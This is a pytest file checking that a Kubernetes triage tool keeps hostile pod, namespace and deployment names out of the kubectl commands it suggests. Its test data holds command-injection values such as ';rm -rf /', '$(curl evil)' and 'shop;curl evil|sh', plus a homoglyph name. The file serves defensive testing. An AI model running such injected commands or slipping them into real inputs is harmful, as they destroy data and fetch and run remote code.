"""End to end: Kubernetes events whose names are hostile (JSON events can carry any string)
never turn into a shown command carrying them; the checks are given in words instead."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from opslens.pipeline import TriageOptions, run_triage
from opslens.report.markdown import render_markdown
from opslens.report.models import Report

IMAGE = "registry.example.com/shop/cart:1.4.2"


def _event(i: int, ts: str, reason: str, kind: str, name: str, ns: str, message: str, host: str,
           kind_of_event: str = "Warning", count: int = 1) -> dict:
    return {
        "apiVersion": "v1", "kind": "Event", "count": count, "firstTimestamp": ts, "lastTimestamp": ts,
        "involvedObject": {"apiVersion": "v1", "kind": kind, "name": name, "namespace": ns},
        "metadata": {"name": f"event-{i}", "namespace": ns}, "reason": reason, "message": message,
        "source": {"component": "kubelet", "host": host}, "type": kind_of_event,
    }


def write_image_pull_events(path: Path, *, pod: str, ns: str, deployment: str, node: str = "worker-2") -> Path:
    """`kubectl get events -o json` of a pod whose image cannot be pulled, with the given names."""
    items = [
        _event(1, "2025-03-14T02:40:00Z", "ScalingReplicaSet", "Deployment", deployment, ns,
               f"Scaled up replica set {deployment}-5d8f7b9c4 to 1", node, "Normal"),
        _event(2, "2025-03-14T02:40:05Z", "Scheduled", "Pod", pod, ns, f"Successfully assigned {ns}/{pod} to {node}", node, "Normal"),
        _event(3, "2025-03-14T02:40:10Z", "Pulling", "Pod", pod, ns, f'Pulling image "{IMAGE}"', node, "Normal"),
        _event(4, "2025-03-14T02:40:12Z", "Failed", "Pod", pod, ns,
               f'Failed to pull image "{IMAGE}": rpc error: code = NotFound desc = failed to pull and unpack image: not found',
               node, count=5),
        _event(5, "2025-03-14T02:40:12Z", "Failed", "Pod", pod, ns, "Error: ErrImagePull", node, count=5),
        _event(6, "2025-03-14T02:41:00Z", "BackOff", "Pod", pod, ns, f'Back-off pulling image "{IMAGE}"', node, count=20),
        _event(7, "2025-03-14T02:41:00Z", "Failed", "Pod", pod, ns, "Error: ImagePullBackOff", node, count=20),
    ]
    path.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": items}, indent=1))
    return path


def _triage(path: Path) -> Report:
    outcome = run_triage(TriageOptions(paths=[str(path)]))
    assert outcome.report is not None, outcome.error
    return outcome.report


def _shown_commands(report: Report) -> list[str]:
    return [c.cmd for c in report.commands + report.needs_approval]


def test_valid_names_give_read_only_commands_with_those_names(tmp_path: Path) -> None:
    report = _triage(write_image_pull_events(tmp_path / "events.json", pod="cart-5d8f7b9c4-x2lqp", ns="shop", deployment="cart"))
    assert "kubectl -n shop describe pod cart-5d8f7b9c4-x2lqp" in _shown_commands(report)
    assert "kubectl -n shop rollout history deployment/cart" in _shown_commands(report)
    assert report.checks_in_words == []


HOSTILE = [
    # (which name, pod, namespace, deployment, hostile text, a check must be given in words)
    ("pod", "cart-5d8f7b9c4-x;rm -rf /", "shop", "cart", ";rm -rf /", False),
    ("pod", "cart-5d8f7b9c4-$(curl evil)", "shop", "cart", "$(curl evil)", False),
    ("pod", "cart-5d8f7b9c4-x2lqp\nrm -rf /", "shop", "cart", "rm -rf /", False),
    ("namespace", "cart-5d8f7b9c4-x2lqp", "shop;rm -rf /", "cart", "rm -rf", True),
    ("namespace", "cart-5d8f7b9c4-x2lqp", "--kubeconfig=/tmp/evil", "cart", "--kubeconfig", True),
    ("namespace", "cart-5d8f7b9c4-x2lqp", "my shop", "cart", "my shop", True),
    ("deployment", "x`id`-5d8f7b9c4-x2lqp", "shop", "x`id`", "`id`", True),
    ("deployment", "x$(id)-5d8f7b9c4-x2lqp", "shop", "x$(id)", "$(id)", True),
    ("deployment", "cаrt-5d8f7b9c4-x2lqp", "shop", "cаrt", "cаrt", True),  # Cyrillic а
]


@pytest.mark.parametrize(("which", "pod", "ns", "deployment", "needle", "in_words"), HOSTILE,
                         ids=[f"{h[0]}:{h[4]!r}" for h in HOSTILE])
def test_hostile_names_never_reach_a_shown_command(tmp_path: Path, which: str, pod: str, ns: str, deployment: str,
                                                   needle: str, in_words: bool) -> None:
    report = _triage(write_image_pull_events(tmp_path / "events.json", pod=pod, ns=ns, deployment=deployment))
    assert report.hypotheses, "the scenario must still be diagnosed"
    for cmd in _shown_commands(report):
        assert needle not in cmd, cmd
    assert all(c.safety.value == "read_only" for c in report.commands)
    if in_words:
        assert report.checks_in_words and all("not shown as a command" in w for w in report.checks_in_words)
    assert not [line for line in _code_lines(render_markdown(report)) if needle in line]


def _code_lines(markdown: str) -> list[str]:
    """The lines inside fenced code blocks: where the markdown report shows commands."""
    lines, inside = [], False
    for line in markdown.splitlines():
        if line.strip().startswith("```"):
            inside = not inside
        elif inside:
            lines.append(line)
    return lines


def test_the_cli_markdown_shows_the_hostile_namespace_check_in_words_only(tmp_path: Path) -> None:
    path = write_image_pull_events(tmp_path / "events.json", pod="cart-5d8f7b9c4-x2lqp", ns="shop;curl evil|sh", deployment="cart")
    proc = subprocess.run([sys.executable, "-m", "opslens", "triage", str(path), "--llm", "none"],
                          capture_output=True, text=True, env={**os.environ, "NO_COLOR": "1"}, timeout=300)
    assert proc.returncode == 0, proc.stderr
    checks_section = proc.stdout.split("## Checks (read-only)", 1)[1].split("\n## ", 1)[0]
    assert "namespace not shown as a command: it is not a valid Kubernetes name" in " ".join(checks_section.split())
    assert "```" not in checks_section and "curl evil" not in checks_section
